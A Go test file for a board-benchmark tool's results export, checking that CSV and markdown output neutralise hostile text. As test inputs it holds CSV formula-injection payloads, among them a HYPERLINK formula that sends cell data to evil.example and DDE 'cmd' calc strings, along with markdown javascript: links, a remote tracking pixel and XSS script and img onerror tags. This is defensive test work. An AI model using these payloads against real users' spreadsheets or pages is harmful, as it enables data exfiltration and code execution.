package results

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"boardbench/internal/store"
	"boardbench/internal/textfmt"
)

// TestExportInjection stores results whose text fields a stranger chose —
// a board name that is a spreadsheet formula or a markdown link to
// javascript:, a remote image, HTML — and exports them: no CSV text cell
// may start with =, +, -, @, tab or CR (OWASP's formula-injection list),
// numeric figure cells (a negative one included) stay numbers, and no
// markdown row may hold an active link, image or HTML tag.
func TestExportInjection(t *testing.T) {
	path := filepath.Join(t.TempDir(), "r.db")
	st, err := store.Open(context.Background(), path)
	if err != nil {
		t.Fatal(err)
	}
	t0 := time.Date(2025, 3, 1, 10, 0, 0, 0, time.UTC)
	boards := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"Pi")`,
		"+cmd|' /C calc'!A0",
		"-2+3+cmd|' /C calc'!A0",
		"@SUM(1+9)*cmd|' /C calc'!A0",
		"\t=1+1",
		"\r=1+1",
		"[Raspberry Pi](javascript:alert(1)) ![x](http://evil.example/pixel.png) <img src=x onerror=alert(1)> <script>alert(1)</script> <http://evil.example>",
	}
	for i, b := range boards {
		r := testResult(strings.Repeat(string(rune('a'+i)), 4)+"0000000000000000000000000001", b, 16000, t0.Add(time.Duration(i)*time.Hour))
		if i == 0 {
			r.Summary.SevenZipMultiMIPS = f64(-1.5) // a negative figure stays a number
		}
		doc, _ := json.Marshal(r)
		if _, _, err := st.Put(context.Background(), doc); err != nil {
			t.Fatal(err)
		}
		if err := st.Tag(context.Background(), r.ID, "=tag"); err != nil {
			t.Fatal(err)
		}
	}
	st.Close()

	out, _, err := run(t, path, false, "", "export", "--all", "--format", "csv")
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v\n%s", err, out)
	}
	head := rows[0]
	numeric := map[int]bool{}
	for i := range head {
		if i >= len(csvColumns) {
			numeric[i] = true
		}
	}
	boardsSeen, negative := 0, false
	for _, row := range rows[1:] {
		for i, cell := range row {
			if numeric[i] && head[i] == "sevenzip_multi_mips" && cell == "-1.5" {
				negative = true
			}
			if cell == "" || numeric[i] {
				continue
			}
			if strings.ContainsAny(cell[:1], "=+-@\t\r") {
				t.Errorf("column %s starts with %q: %q", head[i], cell[:1], cell)
			}
			if head[i] == "board" && strings.HasPrefix(cell, "'") {
				boardsSeen++
			}
		}
	}
	if !negative {
		t.Errorf("the negative figure is not the number -1.5:\n%s", out)
	}
	if boardsSeen != len(boards)-1 {
		t.Errorf("%d escaped board cells, want %d:\n%s", boardsSeen, len(boards)-1, out)
	}

	out, _, err = run(t, path, false, "", "export", "--all", "--format", "markdown")
	if err != nil {
		t.Fatal(err)
	}
	for _, active := range []string{"](javascript", "](http", "<img", "<script", "<http"} {
		if strings.Contains(out, active) {
			t.Errorf("markdown export holds %q:\n%s", active, out)
		}
	}
	if !strings.Contains(out, "Raspberry Pi") {
		t.Errorf("the board's text is lost:\n%s", out)
	}
}

// TestCSVCell: the rule for one cell.
func TestCSVCell(t *testing.T) {
	csvText := func(s string) string { return textfmt.CSVText(s) }
	tests := []struct{ in, want string }{
		{"Radxa ROCK 5B", "Radxa ROCK 5B"},
		{"=1+1", "'=1+1"},
		{"+1", "'+1"},
		{"-1", "'-1"},
		{"@x", "'@x"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"", ""},
		{"a=b", "a=b"},
	}
	for _, tc := range tests {
		if got := csvText(tc.in); got != tc.want {
			t.Errorf("csvText(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}
